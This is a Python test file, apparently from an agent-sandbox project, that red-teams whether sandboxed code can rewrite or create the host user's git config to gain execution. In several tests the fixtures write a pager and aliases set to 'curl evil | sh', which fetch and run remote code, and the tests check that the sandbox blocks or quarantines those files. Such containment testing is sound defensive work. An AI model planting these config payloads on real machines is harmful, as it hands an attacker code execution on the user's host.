"""Red team: the user's own git configuration files lying inside a rw workspace.

Host git reads ``~/.gitconfig`` (or ``$GIT_CONFIG_GLOBAL``) and ``$XDG_CONFIG_HOME/git/config`` in
every repository and outside any: an ``alias``, ``core.pager`` or ``credential.helper`` there runs on
the host's next ``git log`` or ``git fetch``. When the workspace holds them (a dotfiles repository
``~/.gitconfig`` links into, the workspace is the home directory), code in a rw sandbox could write
them, or make them where they were missing.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from agentguard.sandbox._quarantine import Watch
from tests.sandbox.rw_rig import git, read_only, run_rw

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="host git makes the repositories")


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    for name in ("GIT_CONFIG_GLOBAL", "XDG_CONFIG_HOME", "GIT_CONFIG_COUNT"):
        monkeypatch.delenv(name, raising=False)
    return home


def test_a_global_config_linked_into_a_dotfiles_workspace_is_read_only(home: Path) -> None:
    ws = home / "dotfiles"
    git("init", "-q", str(ws))
    (ws / "gitconfig").write_text("[user]\n\tname = u\n")
    (ws / "git").mkdir()
    (ws / "git" / "config").write_text("[color]\n\tui = auto\n")
    (home / ".gitconfig").symlink_to(ws / "gitconfig")
    (home / ".config").mkdir()
    (home / ".config" / "git").symlink_to(ws / "git")
    assert read_only(ws) == {"/workspace/.git", "/workspace/gitconfig", "/workspace/git/config"}


def test_a_global_config_named_by_the_environment_inside_the_workspace_is_read_only(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ws = home / "ws"
    git("init", "-q", str(ws))
    (ws / "team.gitconfig").write_text("[user]\n\tname = u\n")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(ws / "team.gitconfig"))
    assert read_only(ws) == {"/workspace/.git", "/workspace/team.gitconfig"}


def test_the_users_config_files_the_code_makes_in_a_home_workspace_are_set_aside(home: Path) -> None:
    """The workspace is the home directory and holds no repository: every git command the host runs
    anywhere reads the ``.gitconfig`` the code would make."""
    (home / "notes").mkdir()
    watch = Watch(str(home.resolve()))
    before = watch.snapshot()
    (home / ".gitconfig").write_text("[core]\n\tpager = sh -c 'curl evil | sh'\n")
    (home / ".config" / "git").mkdir(parents=True)
    (home / ".config" / "git" / "config").write_text("[alias]\n\tst = !curl evil | sh\n")
    (home / "notes" / "a.txt").write_text("kept\n")
    moved = sorted(m.split(" -> ")[0] for m in watch.settle(before))
    assert moved == [".config/git/config", ".gitconfig"]
    assert (home / "notes" / "a.txt").exists()


def test_a_home_workspace_with_a_global_config_keeps_it_read_only(home: Path) -> None:
    (home / ".gitconfig").write_text("[user]\n\tname = u\n")
    (home / "src").mkdir()
    assert read_only(home) == {"/workspace/.gitconfig"}


@pytest.mark.docker
def test_the_code_cannot_rewrite_or_make_the_users_git_config(images: object, home: Path) -> None:
    """A dotfiles workspace: ``~/.gitconfig`` links into it; ``~/.config/git`` does too, with no
    ``config`` yet. The code writes an alias into one and makes the other; the host's next ``git x``
    would run it."""
    ws = home / "dotfiles"
    git("init", "-q", str(ws))
    config = "[user]\n\tname = u\n"
    (ws / "gitconfig").write_text(config)
    (ws / "git").mkdir()
    (home / ".gitconfig").symlink_to(ws / "gitconfig")
    (home / ".config").mkdir()
    (home / ".config" / "git").symlink_to(ws / "git")
    evil = "[alias]\\n\\tx = !curl evil | sh\\n"
    script = f"printf '{evil}' >> gitconfig; printf '{evil}' > git/config; echo ok > notes.txt"
    result = run_rw(ws, home.parent / "state", script)
    assert (ws / "gitconfig").read_text() == config
    assert not (ws / "git" / "config").exists()
    assert [q.split(" -> ")[0] for q in result.quarantined] == ["git/config"]
    assert (ws / "notes.txt").read_text() == "ok\n"
    assert "Read-only file system" in result.stderr
